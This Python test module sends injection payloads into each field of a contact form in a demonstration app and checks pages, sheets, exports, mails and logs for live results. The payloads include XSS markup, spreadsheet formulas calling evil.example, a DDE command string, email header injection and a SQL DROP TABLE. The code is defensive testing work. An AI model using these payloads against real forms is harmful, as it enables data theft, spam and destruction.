"""Markup, formulas, headers and templates typed into every field of a form, and
looked for at every way out.
"""

import csv
import html
import io
import json
import re
import secrets
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path

from attack.result import Result
from attack.target import Demonstration, demonstration, wait_for
from attack.visitor import FORM, PATIENCE, Answer

MARKUP = '<script>alert("{mark}")</script><img src=x onerror=alert(1)>"\'><svg onload=alert(1)>'
PAYLOADS = (
    MARKUP,
    '=HYPERLINK("https://evil.example/{mark}","x")',
    '=IMPORTXML("https://evil.example/{mark}","//a")',
    "+1+cmd|' /C calc'!A0 {mark}",
    "@SUM(1) {mark}",
    "-2+3 {mark}",
    "{{{{ 7*7 }}}}{{% raw %}} {mark}",
    "{mark}\r\nBcc: victim@example.net\r\n\r\n<h1>body</h1>",
    "[{mark}](javascript:alert(1)) ![x](https://evil.example/{mark}.png)",
    "' OR 1=1; DROP TABLE submissions; -- {mark}",
    "\u202e{mark}\u2066",
)
ACTIVE = re.compile(
    r"""<script>|<(?:img|svg|h1)\b[^>]*(?:onerror|onload|>body)|(?:href|src)\s*=\s*["']?(?:javascript:|https://evil)""",
    re.IGNORECASE,
)
FORMULA = re.compile(r"<f>[^<]*(HYPERLINK|IMPORTXML|cmd|SUM\(1\))")
SEE_OTHER, UNPROCESSABLE = 303, 422
VICTIM = "victim@example.net"
FEWEST_MAILS = 20
"""So many receipts are waited for; the hour's mails to strangers are bounded."""


def attack(folder: Path) -> Iterator[Result]:
    """Sends each payload in each field that takes text; then looks at receipts, sheet,
    XLSX, CSV, mails and the program's log.
    """
    with demonstration(folder / "payloads") as running:
        marks: list[str] = []
        senders: list[str] = []
        pages: list[Answer] = []
        receipts: list[Answer] = []
        names = _text_fields(running)
        for payload, name in [
            (payload, name) for payload in PAYLOADS for name in names
        ]:
            mark = f"m{secrets.token_hex(6)}"
            sender = f"a{secrets.token_hex(6)}@example.org"
            visitor = running.visitor()
            visitor.open_form()
            pages.append(
                visitor.send_form(
                    **{"contact_email": sender, name: payload.format(mark=mark)}
                )
            )
            if pages[-1].status == SEE_OTHER:
                marks.append(mark)
                senders.append(sender)
                receipts.append(running.visitor().get(pages[-1].location))
        answered = sum(page.status in (SEE_OTHER, UNPROCESSABLE) for page in pages)
        figure = f"{answered} of {len(pages)} taken or refused with words"
        yield Result(
            f"{len(PAYLOADS)} payloads in {len(names)} fields",
            figure,
            answered == len(pages),
        )
        yield _without_active("active on the page", [*pages, *receipts])
        yield _arrived(running, marks)
        yield from _sheet(running)
        yield _mails(running, senders)
        log = running.log.read_text(errors="replace")
        lines = sum(word in log for word in [*marks, *senders])
        yield Result(
            "in the program's log", f"{lines} payloads or addresses", lines == 0
        )


def _text_fields(running: Demonstration) -> list[str]:
    """Those that people see; the trap is none of them."""
    page = running.visitor().get(FORM).text
    tags = re.findall(
        r'<input[^>]*type="(?:text|email|tel|url)"[^>]*>|<textarea[^>]*>', page
    )
    names = re.findall(r'name="([^"]+)"', "".join(tags))
    return sorted(set(names) - {"left-blank"})


def _without_active(tried: str, pages: Iterable[Answer]) -> Result:
    active = [bool(ACTIVE.search(page.text)) for page in pages]
    return Result(tried, f"{sum(active)} of {len(active)}", not any(active))


def _arrived(running: Demonstration, marks: list[str]) -> Result:
    """Whether all that was accepted comes to stand in the sheet."""
    wait_for(lambda: _count(running, marks) == len(marks), PATIENCE)
    count = _count(running, marks)
    return Result(
        "accepted ones in the sheet", f"{count} of {len(marks)}", count == len(marks)
    )


def _count(running: Demonstration, marks: list[str]) -> int:
    text = running.sheet_text()
    return sum(mark in text for mark in marks)


def _sheet(running: Demonstration) -> Iterator[Result]:
    visitor = running.sheet()
    book = running.book()
    whole = visitor.get(
        f"/v4/spreadsheets/{book.rpartition('/')[2]}?includeGridData=true"
    ).text
    formulas = len(
        re.findall(
            r'"formulaValue": "=(?:HYPERLINK|IMPORT)', json.dumps(json.loads(whole))
        )
    )
    yield Result("formulas in the sheet", str(formulas), formulas == 0)
    workbook = zipfile.ZipFile(io.BytesIO(visitor.get(f"{book}/download.xlsx").content))
    parts = "".join(
        workbook.read(name).decode(errors="replace") for name in workbook.namelist()
    )
    formulas = len(FORMULA.findall(parts))
    links = parts.count('Target="https://evil.example')
    yield Result(
        "formulas and links in the XLSX",
        f"{formulas} and {links}",
        formulas + links == 0,
    )
    # A CSV file has no types: what a program makes of its cells is the program's.
    # That rows stay rows is ours.
    broken = sum(
        _broken_rows(visitor.get(f"{book}/{gid}/download.csv").text)
        for gid in running.tabs()
    )
    yield Result("rows that a payload broke in the CSV", str(broken), broken == 0)


def _broken_rows(content: str) -> int:
    rows = list(csv.reader(io.StringIO(content, newline="")))
    return sum(len(row) != len(rows[0]) for row in rows)


def _mails(running: Demonstration, senders: list[str]) -> Result:
    wait_for(lambda: _receipts(running, senders) >= FEWEST_MAILS, PATIENCE)
    visitor = running.local_visitor()
    paths = running.mail_paths()
    pages = [visitor.get(html.unescape(path)) for path in paths] + [
        visitor.get(f"{path}/html") for path in paths
    ]
    active = _without_active("active in mails", pages)
    receipts = _receipts(running, senders)
    to_victim = sum(VICTIM in text for text in running.mail_recipients())
    figure = f"{active.figure} pages, {receipts} receipts among them; {to_victim} to a stranger"
    return Result(
        active.tried,
        figure,
        bool(active.held) and to_victim == 0 and receipts >= FEWEST_MAILS,
    )


def _receipts(running: Demonstration, senders: list[str]) -> int:
    return sum(recipient in senders for recipient in running.mail_recipients())
